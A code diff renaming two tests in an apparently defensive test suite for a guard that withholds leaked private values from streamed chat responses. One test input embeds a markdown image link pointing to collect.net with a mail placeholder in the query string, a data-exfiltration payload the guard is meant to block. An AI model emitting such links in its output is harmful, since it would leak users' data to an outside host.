@@ -270,13 +270,13 @@ class TestNote:
         assert b"forged" not in played(session.stream(note=note), [forged, text_stream(["Hi"])])
 
 
-def test_what_is_held_comes_before_the_finish_reason(session: Session) -> None:
+def test_held_text_comes_before_the_finish_reason(session: Session) -> None:
     got = bodies(played(session.stream(), [text_stream([session.write("To {mail}")[:-3]])]))
     reasons = [each["choices"][0]["finish_reason"] for each in got]
     assert reasons == [None] * (len(got) - 1) + ["stop"]
 
 
-def test_what_the_policy_withholds_ends_the_answer(session: Session) -> None:
+def test_a_withheld_text_ends_the_answer(session: Session) -> None:
     rules = GuardDocument(placeholder_in_url="replace")
     leak = session.write("Fine.\nSee ![x](https://collect.net/?q={mail}) now.\n\nMore.")
     stream = session.stream(rules)
